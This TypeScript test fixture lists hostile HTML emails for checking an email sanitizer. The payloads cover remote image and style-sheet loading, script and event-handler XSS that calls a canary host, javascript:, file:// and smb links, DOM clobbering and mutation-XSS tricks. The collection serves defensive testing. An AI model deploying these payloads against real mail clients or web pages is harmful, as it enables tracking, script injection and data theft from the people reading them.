/** One hostile mail: what it tries, its HTML (`C` stands for the canary), and what must be said to be blocked. */
export type Hostile = readonly [name: string, html: string, said?: 'image' | 'style sheet' | 'other item'];

const u = 'http://C/x';

/** Ways to load something from afar. */
const loads: readonly Hostile[] = [
  ['img src', `<img src="${u}">`, 'image'],
  ['img src without quotes and with odd spaces', `<img\nsrc\t=\n${u}>`, 'image'],
  ['img src, scheme relative', '<img src="//C/x">', 'image'],
  ['img src with entities', '<img src="&#104;ttp&colon;//C/x">', 'image'],
  ['img src with a tab in its scheme', '<img src="ht&#9;tp://C/x">', 'image'],
  ['img srcset', `<img srcset="${u} 1x, ${u}2 2x">`, 'image'],
  [
    'img src of the mail and srcset from afar',
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="${u} 1x">`,
  ],
  ['img lowsrc and dynsrc', `<img lowsrc="${u}" dynsrc="${u}">`, 'image'],
  ['img lazy', `<img loading="eager" fetchpriority="high" src="${u}">`, 'image'],
  ['img longdesc', `<img alt="a" longdesc="${u}">`, 'image'],
  ['image, the other name of img', `<image src="${u}">`, 'image'],
  ['picture', `<picture><source srcset="${u}"><img src="${u}"></picture>`, 'image'],
  ['picture with a source alone', `<picture><source srcset="${u}"><img alt="a"></picture>`, 'image'],
  ['sheet: import', `<style>@import "${u}";p{color:red}</style>`, 'style sheet'],
  ['sheet: import by url', `<style>@import url(${u}) screen;</style>`, 'style sheet'],
  ['sheet: import escaped', `<style>@\\69 mport "${u}";</style>`, 'style sheet'],
  ['sheet: import escaped in the midst', `<style>@im\\70 ort url("${u}");</style>`, 'style sheet'],
  ['sheet: import in a layer', `<style>@layer a;@import "${u}" layer(a);</style>`, 'style sheet'],
  ['sheet: background', `<style>p{background:url(${u})}</style><p>a</p>`, 'style sheet'],
  [
    'sheet: background with a variable before',
    `<style>p{--x:red;background:var(--x) url(${u})}</style><p>a</p>`,
    'style sheet',
  ],
  [
    'sheet: background by a variable',
    `<style>:root{--x:url(${u})}p{background:var(--x)}</style><p>a</p>`,
    'style sheet',
  ],
  [
    'sheet: background by an escaped variable',
    `<style>:root{--x:u\\72l(${u})}p{background:var(--x)}</style><p>a</p>`,
    'style sheet',
  ],
  ['sheet: background escaped', `<style>p{background:\\75 rl(${u})}</style><p>a</p>`, 'style sheet'],
  ['sheet: image-set', `<style>p{background:image-set("${u}" 1x)}</style><p>a</p>`, 'style sheet'],
  [
    'sheet: -webkit-image-set',
    `<style>p{background-image:-webkit-image-set(url(${u}) 1x)}</style><p>a</p>`,
    'style sheet',
  ],
  [
    'sheet: cross-fade',
    `<style>p{background-image:-webkit-cross-fade(url(${u}),url(${u}2),50%)}</style><p>a</p>`,
    'style sheet',
  ],
  ['sheet: list-style', `<style>li{list-style:square url(${u})}</style><li>a</li>`, 'style sheet'],
  ['sheet: content', `<style>p::before{content:url(${u})}</style><p>a</p>`, 'style sheet'],
  ['sheet: cursor', `<style>p{cursor:url(${u}),auto}</style><p>a</p>`, 'style sheet'],
  [
    'sheet: border-image and mask',
    `<style>p{border:9px solid;border-image:url(${u}) 30;mask:url(${u})}</style><p>a</p>`,
    'style sheet',
  ],
  ['sheet: filter', `<style>p{filter:url(${u}#f);clip-path:url(${u}#c)}</style><p>a</p>`, 'style sheet'],
  ['sheet: in a media rule', `<style>@media screen{p{background:url(${u})}}</style><p>a</p>`, 'style sheet'],
  [
    'sheet: in a supports rule',
    `<style>@supports (color:red){p{background:url(${u})}}</style><p>a</p>`,
    'style sheet',
  ],
  ['sheet: in a layer', `<style>@layer a{p{background:url(${u})}}</style><p>a</p>`, 'style sheet'],
  [
    'sheet: in a container',
    `<style>@container (min-width:1px){p{background:url(${u})}}</style><p>a</p>`,
    'style sheet',
  ],
  ['sheet: nested', `<style>div{& p{background:url(${u})}}</style><div><p>a</p></div>`, 'style sheet'],
  [
    'sheet: keyframes',
    `<style>@keyframes k{from{background:url(${u})}to{background:url(${u}2)}}p{animation:k 1s}</style><p>a</p>`,
    'style sheet',
  ],
  [
    'sheet: font',
    `<style>@font-face{font-family:f;src:url(${u})}p{font-family:f}</style><p>a</p>`,
    'style sheet',
  ],
  [
    'sheet: property',
    `<style>@property --x{syntax:"<image>";inherits:true;initial-value:url(${u})}p{background:var(--x)}</style><p>a</p>`,
  ],
  ['sheet: namespace', `<style>@namespace url(${u});p{color:red}</style><p>a</p>`],
  [
    'sheet: an end of the element in a string',
    `<style>p{content:"</sty\\6ce><img src=${u}>"}</style><p>a</p>`,
  ],
  [
    'sheet: after a comment of HTML',
    `<style><!-- p{background:url(${u})} --></style><p>a</p>`,
    'style sheet',
  ],
  ['attribute: background', `<p style="background:url(${u})">a</p>`, 'image'],
  ['attribute: background in entities', `<p style="background:&#117;rl(&quot;${u}&quot;)">a</p>`, 'image'],
  ['attribute: background escaped', `<p style="background:\\75\\72\\6c (${u})">a</p>`, 'image'],
  [
    'attribute: background with a variable before',
    `<p style="--x:red;background:var(--x) url(${u})">a</p>`,
    'image',
  ],
  [
    'attribute: background with an unknown variable',
    `<p style="background:var(--y, red) url(${u})">a</p>`,
    'image',
  ],
  [
    'attribute: background with a variable, escaped',
    `<p style="background:var(--y, red) u\\72 l(${u})">a</p>`,
    'image',
  ],
  ['attribute: background by a variable', `<p style="--x:url(${u});background:var(--x)">a</p>`, 'image'],
  [
    'attribute: background by an escaped variable',
    `<p style="--x:u\\72 l(${u});background:var(--x)">a</p>`,
    'image',
  ],
  ['attribute: list-style, important', `<li style="list-style-image:url(${u})!important">a</li>`, 'image'],
  ['attribute: image-set', `<p style="background-image:image-set('${u}' 1x)">a</p>`, 'image'],
  ['background of a table', `<table background="${u}"><tr><td background="${u}">a</table>`, 'image'],
  ['background of the body', `<body background="${u}">a</body>`],
  ['video', `<video src="${u}" autoplay preload="auto"></video>`, 'other item'],
  ['video poster', `<video poster="${u}"></video>`, 'other item'],
  [
    'video source and track',
    `<video autoplay><source src="${u}"><track default src="${u}"></video>`,
    'other item',
  ],
  ['audio', `<audio src="${u}" autoplay></audio>`, 'other item'],
  ['svg image', `<svg width="9" height="9"><image href="${u}" width="9" height="9"/></svg>`, 'image'],
  [
    'svg image by xlink',
    `<svg width="9" height="9"><image xlink:href="${u}" width="9" height="9"/></svg>`,
    'image',
  ],
  [
    'svg feImage',
    `<svg width="9" height="9"><filter id="f"><feImage href="${u}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    'image',
  ],
  ['svg use', `<svg><use href="${u}#a"/></svg>`, 'other item'],
  [
    'svg style',
    `<svg width="9" height="9"><style>@import "${u}";rect{fill:url(${u})}</style><rect width="9" height="9"/></svg>`,
  ],
  [
    'svg foreignObject',
    `<svg width="9" height="9"><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${u}"></foreignObject></svg>`,
    'image',
  ],
  ['svg fill', `<svg width="9" height="9"><rect width="9" height="9" fill="url(${u}#a)"/></svg>`],
  [
    'svg set',
    `<svg width="9" height="9"><image width="9" height="9"><set attributeName="href" to="${u}"/></image></svg>`,
  ],
  ['object', `<object data="${u}"></object>`, 'other item'],
  ['embed', `<embed src="${u}">`, 'other item'],
  ['iframe', `<iframe src="${u}"></iframe>`, 'other item'],
  [
    'iframe srcdoc, nested',
    `<iframe srcdoc="<img src='${u}'><iframe srcdoc=&quot;&lt;img src=${u}&gt;&quot;></iframe>"></iframe>`,
    'other item',
  ],
  ['frame', `<frameset><frame src="${u}"></frameset>`],
  ['applet and bgsound', `<applet code="${u}" codebase="${u}"></applet><bgsound src="${u}">`, 'other item'],
  [
    'portal and fencedframe',
    `<portal src="${u}"></portal><fencedframe src="${u}"></fencedframe>`,
    'other item',
  ],
  ['link stylesheet', `<link rel="stylesheet" href="${u}">`, 'style sheet'],
  ['link prefetch', `<link rel="prefetch" href="${u}">`, 'other item'],
  ['link preload', `<link rel="preload" as="image" href="${u}">`, 'other item'],
  ['link modulepreload', `<link rel="modulepreload" href="${u}">`, 'other item'],
  ['link preconnect', '<link rel="preconnect" href="http://C">', 'other item'],
  ['link dns-prefetch', '<link rel="dns-prefetch" href="//C">', 'other item'],
  ['link icon and manifest', `<link rel="icon" href="${u}"><link rel="manifest" href="${u}">`, 'other item'],
  ['link prerender', `<link rel="prerender" href="${u}">`, 'other item'],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${u}">`, 'other item'],
  ['meta link header', `<meta http-equiv="Link" content="<${u}>; rel=preload; as=image">`],
  ['base', '<base href="http://C/"><img src="x"><p style="background:url(y)">a</p>', 'image'],
  ['form', `<form action="${u}"><input name="a"><button>Go</button><input type="submit"></form>`],
  ['formaction', `<form id="f"></form><button form="f" formaction="${u}">Go</button>`],
  ['input image', `<input type="image" src="${u}">`, 'image'],
  [
    'input image in a form',
    `<form action="${u}"><input type="image" src="${u}" formaction="${u}"></form>`,
    'image',
  ],
  ['math href', `<math href="${u}"><mi href="${u}">a</mi></math>`],
  ['noscript', `<noscript><img src="${u}"></noscript>`, 'image'],
  ['noscript that ends in an attribute', `<noscript><p title="</noscript><img src=${u}>"></noscript>`],
  ['template', `<template><img src="${u}"></template>`],
  ['template with a shadow root', `<div><template shadowrootmode="open"><img src="${u}"></template></div>`],
  [
    'selectedcontent',
    `<select><button><selectedcontent></selectedcontent></button><option><img src="${u}">a</option></select>`,
  ],
  [
    'dialog and popover',
    `<dialog open><img src="${u}"></dialog><p popover id="p">a</p><button popovertarget="p">b</button>`,
    'image',
  ],
  ['marquee', `<marquee><img src="${u}"></marquee>`, 'image'],
  ['blockquote cite', `<blockquote cite="${u}">a</blockquote><q cite="${u}">b</q>`, 'other item'],
  ['html manifest', `<html manifest="${u}"><p>a</p>`],
  [
    'conditional comment',
    `<!--[if gte mso 9]><img src="${u}"><![endif]--><![if !mso]><img src="${u}"><![endif]>`,
    'image',
  ],
  ['unclosed img', `<img src="${u}" alt="`],
  [
    'broken url in a style attribute',
    `<p style="background:url(${u}) no such thing;color:red">a</p>`,
    'image',
  ],
  [
    'a word that is as long as an email',
    `<p style="font-kerning:normal;font-feature-settings:'kern' 1">${'W'.repeat(100_000)}</p>`,
  ],
  ['cid and data images stay', '<img src="cid:a@b"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">'],
  [
    'svg in a data image',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${u}'/></svg>">`,
    'image',
  ],
];

/** Ways to run something, to lead away, or to be read twice. */
const acts: readonly Hostile[] = [
  ['script', `<script>fetch("${u}");document.title="owned";open("${u}")</script>`],
  ['script src', `<script src="${u}"></script>`, 'other item'],
  [
    'handlers',
    `<img src=x onerror="new Image().src='${u}'"><p onmouseover="location='${u}'" onclick="open('${u}')">a</p>`,
  ],
  ['body onload', `<body onload="location='${u}'">a`],
  [
    'svg onload',
    `<svg onload="location='${u}'"><animate onbegin="location='${u}'" attributeName="x" dur="1s"/></svg>`,
  ],
  ['details ontoggle', `<details open ontoggle="location='${u}'"><summary>a</summary>b</details>`],
  [
    'autofocus onfocus',
    `<input autofocus onfocus="location='${u}'"><p tabindex="0" autofocus onfocus="location='${u}'">a</p>`,
  ],
  [
    'link',
    `<a href="${u}">a</a><a href="${u}" target="_blank">b</a><a href="${u}" target="_top">c</a><a href="${u}" ping="${u}">d</a>`,
  ],
  ['link: download', `<a href="${u}" download="a.exe">a</a>`],
  [
    'link: javascript',
    `<a href="javascript:location='${u}'">a</a><a href="java&#10;script:open('${u}')">b</a><a href="&#x6a;avascript:alert(1)">c</a>`,
  ],
  ['link: data', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  [
    'link: file',
    '<a href="file:///etc/passwd">a</a><img src="file:///etc/passwd"><iframe src="file:///etc/passwd"></iframe>',
    'image',
  ],
  [
    'link: smb and custom schemes',
    '<a href="smb://C/x">a</a><a href="ms-msdt:/id">b</a><a href="search-ms:query">c</a><img src="\\\\C\\x">',
    'image',
  ],
  [
    'link: vbscript and blob',
    `<a href="vbscript:msgbox(1)">a</a><a href="blob:http://C/1">b</a><a href="view-source:${u}">c</a>`,
  ],
  [
    'map and area',
    `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m" width="40" height="40"><map name="m"><area href="${u}" shape="default"></map>`,
  ],
  [
    'svg link',
    `<svg width="99" height="20"><a xlink:href="javascript:alert(1)"><text y="10">a</text></a></svg>`,
  ],
  [
    'label and summary',
    `<label for="x"><a href="${u}">a</a></label><details><summary><a href="${u}">b</a></summary></details>`,
  ],
  [
    'clobbering',
    `<form id="f"><input name="attributes"><input name="getAttribute"><input name="tagName"><input name="nodeName"></form><a id="body"></a><a id="cookie" name="x"></a><img name="querySelector" id="bridge">`,
  ],
  [
    'clobbering of the parent',
    '<form><input name="parentNode"><input name="removeChild"><input name="childNodes"></form><a id="defaultView"><a id="defaultView" name="bridge">',
  ],
  ['mXSS: noscript', `<noscript><p title="</noscript><img src=x onerror=location='${u}'>">`],
  [
    'mXSS: math and style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=location='${u}'&gt;">`,
  ],
  ['mXSS: svg and style', `<svg></p><style><a id="</style><img src=1 onerror=location='${u}'>">`],
  [
    'mXSS: form in form',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=location='${u}'>`,
  ],
  [
    'mXSS: annotation',
    `<math><annotation-xml encoding="text/html"><style><img src="${u}" onerror=alert(1)></style></annotation-xml></math>`,
  ],
  [
    'mXSS: table and a',
    `<table><a href="${u}"><tr><td><a href="${u}">b</a></table><table><style>p{}</table>`,
  ],
  [
    'mXSS: xmp, noembed, plaintext',
    `<xmp><p title="</xmp><img src=${u}>"></xmp><noembed><img src="${u}"></noembed><plaintext><img src="${u}">`,
  ],
  [
    'mXSS: title and textarea',
    `<title><p title="</title><img src=${u}>"></title><textarea><p title="</textarea><img src=${u}>"></textarea>`,
  ],
  [
    'mXSS: comments',
    `<!--><img src="${u}">--><!-- --!><img src="${u}"> --><?xml <img src="${u}"> ?>`,
    'image',
  ],
  ['mXSS: deep', `${'<div>'.repeat(600)}<img src="${u}">`, 'image'],
  [
    'words that look like a style',
    `<a title="see <style>" href="${u}">a</a><p title="<style nonce=x>">b</p>`,
  ],
  ['a nonce of its own', `<style nonce="abc">p{color:red}</style><p nonce="abc">a</p>`],
  [
    'local rules and a comment',
    `<style>/* @import "${u}" */@keyframes k{from{color:red}}@page{margin:1cm}p::before{content:"@import x"}</style><p>a</p>`,
  ],
  ['odd letters in a selector', '<style>p.a\\<b,.a\\\\\\<c{color:red;--y:"\\\\<"}</style><p>a</p>'],
  [
    'a mail for print',
    '<style media="print">p{color:red}</style><p style="color:rgb(1 2 3);font:12px/1 Arial">a</p>',
  ],
];

/** Every hostile mail against a canary's address. */
export const hostileMails = (canary: string): Hostile[] =>
  [...loads, ...acts].map(([name, html, said]) => [
    name,
    html.replaceAll('//C', `//${canary}`),
    ...(said ? ([said] as const) : ([] as const)),
  ]);
